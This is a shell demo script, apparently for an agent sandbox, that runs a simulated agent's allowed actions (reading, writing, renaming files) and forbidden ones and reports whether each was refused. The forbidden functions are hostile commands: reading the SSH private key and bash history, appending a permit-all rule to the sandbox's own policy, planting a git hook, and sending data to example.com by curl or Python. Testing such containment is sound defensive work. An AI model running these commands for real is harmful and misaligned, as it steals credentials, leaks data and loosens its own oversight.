# What the demo's agent does: some of it is allowed, some of it is not.
try() {
    printf '\nagent: %s\n' "$1"
    shift
    if "$@"; then printf '  -> it happened\n'; else printf '  -> refused\n'; fi
}

read_readme() { cat README; }
write_file() { echo 'first draft' > notes.txt; }
rename_file() { mv notes.txt report.txt; }
read_key() { cat "$HOME/.ssh/id_ed25519"; }
look_around() { cat "$HOME/.profile" "$HOME/.bash_history"; }
loosen_policy() { echo 'permit(principal, action, resource);' >> .ringfence/policy.cedar; }
plant_hook() { echo 'echo gotcha' > .git/hooks/post-commit; }
phone_home() {
    curl --silent --show-error --fail-with-body --max-time 5 http://example.com/?stolen=1
}
phone_home_by_python() {
    python3 -c 'import urllib.request as u; u.urlopen("http://example.com/?stolen=1", timeout=5)'
}

try 'I read the project' read_readme
try 'I write a file' write_file
try 'I rename it' rename_file
try 'I read a private key' read_key
try 'I look around in your home' look_around
try 'I loosen my own policy' loosen_policy
try 'I plant a git hook' plant_hook
if command -v curl > /dev/null; then
    try 'I send something to a stranger' phone_home
elif command -v python3 > /dev/null; then
    try 'I send something to a stranger' phone_home_by_python
else
    printf '\nagent: I would send something to a stranger, but have neither curl nor python3\n'
fi
exit 0
